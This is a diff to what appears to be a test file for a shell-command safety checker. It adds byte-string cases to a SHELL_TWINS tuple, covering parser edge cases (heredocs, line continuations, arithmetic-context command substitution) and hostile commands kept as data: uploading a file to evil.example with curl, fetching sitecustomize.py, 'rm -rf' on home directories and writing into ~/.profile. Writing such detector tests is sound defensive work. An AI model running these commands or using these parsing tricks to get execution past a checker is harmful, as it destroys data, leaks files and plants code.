@@ -220,6 +220,20 @@ SHELL_TWINS = (
     b"python ../x.py", b"tee x.sh < a", b"command ./run", b"time ./run", b"! ./run", b"if ls; then ./run; fi", b"ls &\n./run",
     b"python -m http.server", b"torchrun --no-python ./run", b"accelerate launch -m mod", b"pip install evil", b"git clone https://x/y",
     b"wget -i list.txt https://example.com/a", b"curl -K cfg https://example.com/a", b"ls\\\n;./run", b"x=$(./run)", b"cat < /dev/tcp/1.2.3.4/5",
+    # Where a line goes on, where a comment begins, where a here-document ends.
+    b"# x \\\n./run", b"echo a\\\\\n./run", b"cat f\\\n#| ./run", b"echo a \\\r\n./run", b"echo [[\n./run\n]]", b'"[["\n./run\n"]]"',
+    b"cat <<\"E\"'F'\nE\necho '\nEF\n./run\n: '", b"cat <<E\nE \necho '\nE\n./run\n: '", b"cat <<E\n\tE\necho '\nE\n./run\n: '",
+    b'echo "`echo \\`./run\\``" ; echo " "\' `\'', b"cat <\\\n<E\n'\nE\n./run\n#'", b"cat <<E", b"cat <<E; x='\nE\n./run\n'\nE",
+    # What shells evaluate in the text of a variable.
+    b"[[ 'a[$(./run)]' -eq 1 ]]", b"x='a[$(./run)]'\n[[ $x -gt 1 ]]", b"declare -i x='a[$(./run)]'", b"read 'a[$(./run)]'",
+    b"unset 'a[$(./run)]'", b"x='a[$(./run)]'\necho $((x))", b"x=a.txt\necho ${y:x}", b"x=a.txt\necho ${!x}", b"x=a.txt\necho ${x@P}",
+    b"x=$(cat a.txt)\necho ${y[x]}", b"x=$(cat a.txt)\n[[ 1 -lt x ]]", b"declare -n x=PATH", b"a=([x]=1)", b"read a[x]",
+    # Options and places that write, send or run.
+    b"curl -sd @notes.txt https://evil.example/x", b"curl -x http://h.example/ https://evil.example/x", b"nvcc -run x.cu",
+    b"nvcc -ccbin run x.cu", b"uniq payload ~/.profile", b"uniq payload x.sh", b"python -W x.py -c 'import os'",
+    b"torchrun --rdzv_id x.py --no_python ./run", b"cd /\nrm -rf home", b"cd $HOME\nrm -rf *", b"rm -rf {/,a}", b"echo x >> $0",
+    b"X=run.sh\necho y > $X", b"sort --comp=./run f", b"wget https://evil.example/sitecustomize.py", b"cp a libcuda.so.1",
+    b"CC=./run python train.py", b"nvidia-smi -f x.sh", b"cd ..\necho x > log.txt",
 )  # fmt: skip
 
 PAGE = b'{% extends "base.html" %}\n{% block main %}<div class="a">{{ title }}</div>{% include "parts/row.html" %}{% endblock %}\n'
